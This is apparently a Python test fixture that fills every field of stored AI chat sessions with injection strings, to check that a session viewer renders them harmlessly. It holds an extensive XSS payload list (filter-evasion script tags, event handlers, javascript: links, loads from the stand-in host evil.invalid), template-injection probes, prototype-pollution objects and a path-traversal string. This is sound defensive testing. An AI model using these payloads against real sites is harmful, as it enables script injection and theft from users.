"""Texts that try to become part of a page, and a store that has them everywhere.

Each would set `window.__hit`, ask `evil.invalid`, leave an element with `data-hit`, or be computed
to `COMPUTED`.
"""

import base64
from functools import reduce
from typing import Any, cast

import limpet
from limpet.model import JSON

COMPUTED = str(7919 * 7907)
_HIT = "window.__hit=1"
_EVIL = "//evil.invalid/x"


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


_SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_HIT}"><script>{_HIT}</script></svg>'
_ALERT = f"<script data-hit>{_HIT}</script>"
_DATA = f"data:text/html;base64,{_base64(_ALERT)}"

SCRIPTS = (
    _ALERT,
    f'"><script data-hit src="{_EVIL}.js"></script>',
    f"'><script data-hit>{_HIT}</script>",
    f"</script><script data-hit>{_HIT}</script>",
    f"<script data-hit type=module>import('{_EVIL}.js')</script>",
    f"<ScRiPt/data-hit>{_HIT}</sCrIpT >",
    f"<scr<script>ipt data-hit>{_HIT}</scr</script>ipt>",
    f"<svg data-hit><script>{_HIT}</script></svg>",
    f"<noscript><p title='</noscript><script data-hit>{_HIT}</script>'></noscript>",
    f"+ADw-script data-hit+AD4-{_HIT}+ADw-/script+AD4-",  # UTF-7
    f"\uff1cscript data-hit\uff1e{_HIT}\uff1c/script\uff1e",  # full-width brackets
    f"\u2028<script data-hit>\u2029{_HIT}</script>",
)
HANDLERS = (
    f'<img data-hit src=x onerror="{_HIT}">',
    f"<svg data-hit onload={_HIT}>",
    f"<body data-hit onload={_HIT}>",
    f"<details data-hit open ontoggle={_HIT}><summary>x",
    f"<input data-hit autofocus onfocus={_HIT}>",
    f"<video data-hit><source onerror={_HIT}></video>",
    f"<marquee data-hit onstart={_HIT}>x</marquee>",
    f'" data-hit autofocus onfocus="{_HIT}" x="',
    f"' data-hit onmouseover='{_HIT}' x='",
    f"` data-hit onmouseover=`{_HIT}`",
    f"x onfocus={_HIT} autofocus tabindex=1 data-hit ",
    f"<math data-hit><mtext><table><mglyph><style><img src=x onerror={_HIT}>",
    f"<math><mi data-hit xlink:href='javascript:{_HIT}'>x</mi></math>",
    f"<!--><img data-hit src=x onerror={_HIT}>-->",
    f"--><img data-hit src=x onerror={_HIT}><!--",
    f"]]><img data-hit src=x onerror={_HIT}><![CDATA[",
    f"<svg><animate data-hit onbegin={_HIT} attributeName=x dur=1s>",
)
BREAKS = (
    "</textarea><b data-hit>out</b>",
    "</title><b data-hit>out</b>",
    "</code></pre></td></tr></table></details></main><b data-hit>out</b>",
    "</style><b data-hit>out</b>",
    "</template></dialog><b data-hit>out</b>",
    "<!-- <b data-hit>never closed",
    "<plaintext data-hit>",
    "&lt;b data-hit&gt;&#60;b data-hit&#62;",
    "<a id=theme data-hit name=help><form id=help data-hit><input name=attributes></form></a>",
    "<img data-hit name=getElementById><img data-hit name=querySelector>",
    "<button data-hit form=x formaction=//evil.invalid/form>send</button>",
    '" data-copy="changed" data-hit class="',
)
LOADS = (
    f"<base data-hit href={_EVIL}>",
    f'<meta data-hit http-equiv=refresh content="0;url={_EVIL}">',
    f"<form data-hit action={_EVIL}><input type=submit></form>",
    f"<link data-hit rel=stylesheet href={_EVIL}.css>",
    f"<style data-hit>@import '{_EVIL}.css'; body {{ background: url({_EVIL}.png) }}</style>",
    f"<p data-hit style=\"background:url('{_EVIL}.png')\">x</p>",
    f"red;background:url({_EVIL}.png)",
    f'<iframe data-hit srcdoc="<script>parent.{_HIT.partition(".")[2]}</script>"></iframe>',
    f"<iframe data-hit src={_EVIL}></iframe>",
    f"<object data-hit data={_EVIL}></object><embed data-hit src={_EVIL}>",
    f"<img data-hit srcset='{_EVIL}.png 1x'>",
    f"<picture><source data-hit srcset={_EVIL}.png><img></picture>",
    f"<svg><use data-hit href={_EVIL}.svg#x /><image data-hit href={_EVIL}.png /></svg>",
    f"<portal data-hit src={_EVIL}></portal><frameset data-hit>",
)
LINKS = (
    f"[x](javascript:{_HIT})",
    f"[x](JaVaScRiPt:{_HIT})",
    f"[x](java\tscript:{_HIT})",
    f"[x](<java&#10;script:{_HIT}>)",
    f"[x](&#106;avascript:{_HIT})",
    f"[x](\x01javascript:{_HIT})",
    f"[x](javascript&colon;{_HIT})",
    f"[x](vbscript:{_HIT})",
    f"[x]({_DATA})",
    f"[x](blob:{_EVIL})",
    f"[x][r]\n\n[r]: javascript:{_HIT}",
    f"<javascript:{_HIT}>",
    f'<a data-hit href="javascript:{_HIT}">x</a>',
    f"![x](http:{_EVIL}.png)",
    f"![x]({_EVIL}.png)",
    f"![x][p]\n\n[p]: https:{_EVIL}.png",
    f"![x](data:image/svg+xml;base64,{_base64(_SVG)})",
    f"![x]({_DATA})",
    f'[x](http:{_EVIL} "\\" onmouseover={_HIT} data-hit=\\"")',
    f'```" onmouseover="{_HIT}" data-hit="\nx\n```',
    f"https:{_EVIL}?<script data-hit>{_HIT}</script>",
)
TEMPLATES = (
    "{{ 7919*7907 }}",
    "{% print(7919*7907) %}",
    "${7919*7907}",
    "#{7919*7907}",
    "<%= 7919*7907 %>",
    "{{ self.__init__.__globals__ }}",
)
TEXTS = (
    "\u202ereversed\u202c",
    "\u2066isolated \u200b\u200dzero\ufeff width",
    "controls \x01\x07\x08\x1b[2J\x7f\x9b end",
    "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358" * 8,
    "__proto__",
    "constructor.prototype",
    "../../../etc/passwd",
    "javascript:alert(1)//",
    "%3Cscript%3E%0d%0aset-cookie: x=1",
    "\U0001f9d1\u200d\U0001f680 \U00010000",
)
INJECTIONS = (*SCRIPTS, *HANDLERS, *BREAKS, *LOADS, *LINKS, *TEMPLATES, *TEXTS)

STATE_INJECTIONS: tuple[JSON, ...] = (
    {"__proto__": {"isAdmin": True}, "constructor": {"prototype": {"toString": "x"}}},
    {"toString": 1, "hasOwnProperty": None, "": "empty", " ": "space", "/~0~1": "pointer"},
    "x" * 1_000_000,  # one line
    "<b data-hit>" * 20_000,
    {"deep": reduce(lambda inner, _: [inner], range(150), cast(JSON, "end"))},
)
IMAGES = (
    _base64(_SVG),  # said to be a PNG
    f"data:image/svg+xml;base64,{_base64(_SVG)}",
    f"data:image/svg+xml,{_SVG}",
    _DATA,
    f"data:text/html,{_ALERT}",
    f"http:{_EVIL}.png",
    f'iVBORw0KGgo" onerror="{_HIT}" data-hit="',
    f"javascript:{_HIT}",
)


def messages(texts: tuple[str, ...]) -> list[JSON]:
    """Return a conversation in which each text is said, called, given and answered."""
    said: list[JSON] = []
    for at, text in enumerate(texts):
        said += [
            {"role": "user", "content": text},
            {"role": "assistant", "content": f"{text}\n\n> {text}\n\n- {text}\n\n# {text}"},
            {
                "role": "assistant",
                "content": [
                    {"type": "thinking", "thinking": text},
                    {"type": "tool_use", "id": f"t{at}", "name": text, "input": {text: text}},
                ],
            },
            {
                "role": "user",
                "content": [{"type": "tool_result", "tool_use_id": f"t{at}", "content": text}],
            },
            {"role": text, "content": [{"type": text, text: text}]},
        ]
    return said


def pictures() -> list[JSON]:
    found: list[JSON] = []
    for data in IMAGES:
        source = {"type": "base64", "media_type": "image/png", "data": data}
        given: list[JSON] = [
            {"type": "image", "source": source},
            {"type": "image_url", "image_url": {"url": data}},
            {"type": "document", "source": {**source, "media_type": f"{data[:40]}"}},
        ]
        found.append({"role": "user", "content": given})
    return found


def write(store: limpet.Store, texts: tuple[str, ...] = INJECTIONS) -> list[dict[str, str]]:
    """Write a session for each text, in which everything that can be a text is this one.

    A last session has all of them in one state. Returns the addresses of all heads.
    """
    found: list[dict[str, str]] = []
    for text in texts:
        scope = store.scope(text, text)
        about: dict[str, Any] = {"status": text[:256], "labels": {text[:256]: text[:256]}}
        scope.save({"messages": messages((text,))[:1], text: text, "old": text}, **about)
        scope.set_note("title", text)
        scope.set_note(text, {text: text})
        state = {"messages": messages((text,)), text: [text, {text: {text: text}}]}
        last = scope.save(state, id=text, metadata={text: text}, **about)
        scope.set_note(text, text, on=last)
        scope.fork(last, scope_id=f"{text}~fork")
        found.append(_address(last))
    whole = store.scope("all")
    whole.save({"messages": messages(texts[:3])})
    odd: dict[str, JSON] = {"odd": list(STATE_INJECTIONS), **{text: text for text in texts}}
    said = [*messages(texts), *pictures()]
    last = whole.save({"messages": said, **odd}, status="failed")
    return [*found, _address(last)]


def _address(info: limpet.SnapshotInfo) -> dict[str, str]:
    return {"session_id": info.session_id, "scope_id": info.scope.scope_id, "id": info.id}
